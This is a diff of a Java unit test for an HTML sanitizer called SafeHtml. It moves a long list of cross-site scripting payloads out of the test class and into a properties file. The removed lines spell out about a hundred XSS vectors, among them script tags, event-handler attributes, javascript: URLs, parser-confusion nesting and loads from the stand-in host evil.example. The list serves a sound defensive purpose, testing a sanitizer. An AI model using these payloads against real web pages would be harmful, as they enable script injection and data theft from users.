@@ -4,12 +4,17 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.io.IOException;
+import java.io.Reader;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
+import java.util.Properties;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.FieldSource;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** What remains of foreign HTML in a page of this site. */
@@ -19,118 +24,21 @@ class SafeHtmlTest {
         return SafeHtml.clean(html).html();
     }
 
-    /** Attacks that have worked against filters, browsers or web mail. */
-    static final List<String> ATTACKS = List.of(
-            "<script>alert(1)</script>",
-            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-            "<scr<script>ipt>alert(1)</scr</script>ipt>",
-            "<script/x>alert(1)</script>",
-            "<script\n>alert(1)</script >",
-            "<<script>alert(1);//<</script>",
-            "<script>alert(1)",
-            "<img src=x onerror=alert(1)>",
-            "<img src=x onerror\n=\nalert(1)>",
-            "<img/src=x/onerror=alert(1)>",
-            "<img src=\"x` `<script>alert(1)</script>\"` `>",
-            "<img src='javascript:alert(1)'>",
-            "<img \"\"\"><script>alert(1)</script>\">",
-            "<img src=cid:x\" onload=\"alert(1)>",
-            "<img src=x:x alt=\"x` onerror=alert(1)//\">",
-            "<image src=x onerror=alert(1)>",
-            "<body onload=alert(1)>",
-            "<body background=javascript:alert(1)>",
-            "<svg onload=alert(1)>",
-            "<svg><script>alert(1)</script></svg>",
-            "<svg><script href=data:,alert(1) />",
-            "<svg><style><img src=x onerror=alert(1)></style></svg>",
-            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-            "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
-            "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-            "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"></svg>",
-            "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
-            "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
-            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
-            "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
-            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-            "<noscript><img src=x onerror=alert(1)></noscript>",
-            "<template><img src=x onerror=alert(1)></template>",
-            "<template><script>alert(1)</script></template>",
-            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
-            "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
-            "<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>",
-            "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
-            "<plaintext><img src=x onerror=alert(1)>",
-            "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
-            "<noembed><img src=x onerror=alert(1)></noembed>",
-            "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
-            "<iframe src=javascript:alert(1)></iframe>",
-            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-            "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
-            "<object data=javascript:alert(1)></object>",
-            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
-            "<embed src=javascript:alert(1)>",
-            "<applet code=x.class></applet>",
-            "<link rel=stylesheet href=//evil.example/x.css>",
-            "<link rel=import href=//evil.example/x>",
-            "<style>@import '//evil.example/x.css';</style>",
-            "<style>body{background:url(javascript:alert(1))}</style>",
-            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-            "<base href=//evil.example/><a href=x>x</a>",
-            "<a href=javascript:alert(1)>x</a>",
-            "<a href=\"  javascript:alert(1)\">x</a>",
-            "<a href=\"java\tscript:alert(1)\">x</a>",
-            "<a href=\"java\nscript:alert(1)\">x</a>",
-            "<a href=\"&#1;javascript:alert(1)\">x</a>",
-            "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
-            "<a href=\"JaVaScRiPt&Tab;:alert(1)\">x</a>",
-            "<a href=vbscript:msgbox(1)>x</a>",
-            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-            "<a href=\"//evil.example\">x</a>",
-            "<a href=\"https:evil\">x</a>",
-            "<a href='https://x\" onmouseover=\"alert(1)'>x</a>",
-            "<a href=\"https://x\u202e\u0000\u00a0/\" target=_top id=location name=cookie class=admin>x</a>",
-            "<a href=https://a.example ping=//evil.example/p download>x</a>",
-            "<p style=\"background:url(//evil.example/x.gif)\">x</p>",
-            "<p style=\"width:expression(alert(1))\">x</p>",
-            "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</p>",
-            "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
-            "<input autofocus onfocus=alert(1)>",
-            "<select><option onclick=alert(1)>x</select>",
-            "<isindex action=javascript:alert(1) type=image>",
-            "<details open ontoggle=alert(1)>x</details>",
-            "<video><source onerror=alert(1)></video>",
-            "<audio src=x onerror=alert(1)></audio>",
-            "<marquee onstart=alert(1)>x</marquee>",
-            "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
-            "<div id=x name=y class=z data-x=1 is=x contenteditable>x</div>",
-            "<form id=document><img name=getElementById></form>",
-            "<!--><img src=x onerror=alert(1)>-->",
-            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-            "<!-- --!><img src=x onerror=alert(1)> -->",
-            "<![CDATA[<img src=x onerror=alert(1)>]]>",
-            "<?xml version=\"1.0\"?><?import x ?><img src=x onerror=alert(1)>",
-            "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;",
-            "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
-            "</div></article></body></html><script>alert(1)</script>",
-            "<a\f/onclick=alert(1)>x",
-            "<p/title='\"><script>alert(1)</script>'>x",
-            "<b title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</b>",
-            "&lt;script&gt;alert(1)&lt;/script&gt;",
-            "<p lang='\"><script>' dir='\" onclick=alert(1)' align='\"><x'>x",
-            "<td colspan='99999999999' rowspan='-1' width='\"><x'>x",
-            "<table><tr><td><a href=https://a.example><table><a href=https://b.example>x</a></table></a>",
-            "<p><svg><p><math><style></style><a title=\"</math></svg><img src onerror=alert(1)>\">",
-            "<select><template><style><!--</style><a rel=\"--></style></template></select><img src"
-                    + " onerror=alert(1)>\">",
-            "<img src=\"cid:pic\" srcset=\"//evil.example/x 2x\" usemap=#x ismap longdesc=javascript:alert(1)>",
-            "<custom-element onx=alert(1)><slot>x</slot></custom-element>",
-            "<\u0130mg src=x onerror=alert(1)>",
-            "<a href=\"https://x/?a=1&b=<>\">\ud800x</a>");
+    /** Attacks that have worked against filters, browsers or web mail. The browser tests of the static site use them too. */
+    static List<String> attacks() throws IOException {
+        var attacks = new Properties();
+        try (Reader reader =
+                Files.newBufferedReader(Path.of("src/test/resources/org/daylight/message/html/attacks.properties"))) {
+            attacks.load(reader);
+        }
+        return attacks.stringPropertyNames().stream()
+                .sorted()
+                .map(attacks::getProperty)
+                .toList();
+    }
 
     @ParameterizedTest
-    @FieldSource("ATTACKS")
+    @MethodSource("attacks")
     void an_attack_leaves_only_allowed_markup(String attack) {
         for (String html : List.of(attack, "<p>before " + attack + " after", "<table><tr><td>" + attack + "</table>")) {
             SafeHtml safe = SafeHtml.clean(html, id -> id.equals("pic") ? Optional.of("/inline/1") : Optional.empty());
